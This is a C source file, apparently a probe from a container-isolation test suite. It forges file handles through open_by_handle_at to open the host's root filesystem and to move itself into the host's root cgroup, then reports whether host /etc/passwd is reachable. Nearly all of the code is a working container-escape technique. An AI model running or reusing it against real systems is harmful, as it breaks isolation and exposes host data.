/* File handles name files that no path leads to. */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

enum {
  KERNFS = 0xfe, /* FILEID_KERNFS: the number of the node, 64 bits */
  INO32_GEN = 1, /* FILEID_INO32_GEN: number and generation; 2 is the root of an ext4 */
  ROOT_NODE = 1,
  ROOT_INODE = 2,
};

union handle {
  struct file_handle head;
  char room[sizeof(struct file_handle) + sizeof(uint64_t)];
};

static int by_handle(const char *mount_point, int type, const void *name) {
  union handle handle;
  memset(&handle, 0, sizeof handle);
  handle.head.handle_bytes = sizeof(uint64_t);
  handle.head.handle_type = type;
  memcpy(handle.room + sizeof(struct file_handle), name, sizeof(uint64_t));
  int mount_fd = open(mount_point, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) {
    return -1;
  }
  int fd = open_by_handle_at(mount_fd, &handle.head, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int error = errno;
  (void)close(mount_fd);
  errno = error;
  return fd;
}

static void join_root(const void *mount_point) {
  const uint64_t root = ROOT_NODE;
  int fd = by_handle(mount_point, KERNFS, &root);
  report_try("handle", mount_point, fd);
  if (fd < 0) {
    return;
  }
  int procs = openat(fd, "cgroup.procs", O_WRONLY | O_CLOEXEC);
  report_try("handle-open", "cgroup.procs of the host's root", procs);
  if (procs >= 0) {
    report_try("handle-join", "the host's root", write(procs, "0", 1));
    report_where("by handle");
    (void)usleep(LINGER_MICROS * 10);
  }
}

static void visit_cgroup(const char *directory) { apart(join_root, directory); }

static void open_host_root(const void *mount_point) {
  const uint32_t root[2] = {ROOT_INODE, 0};
  int fd = by_handle(mount_point, INO32_GEN, root);
  report_try("handle-host", mount_point, fd);
  if (fd >= 0 && faccessat(fd, "etc/passwd", R_OK, 0) == 0) {
    report_state("host root", "escaped");
  }
}

void open_handles(void) {
  union handle handle;
  int mount_id;
  handle.head.handle_bytes = sizeof(uint64_t);
  report_try("name_to_handle_at", "/", name_to_handle_at(AT_FDCWD, "/", &handle.head, &mount_id, 0));
  walk_mounts("cgroup2", visit_cgroup);
  apart(open_host_root, "/");
}
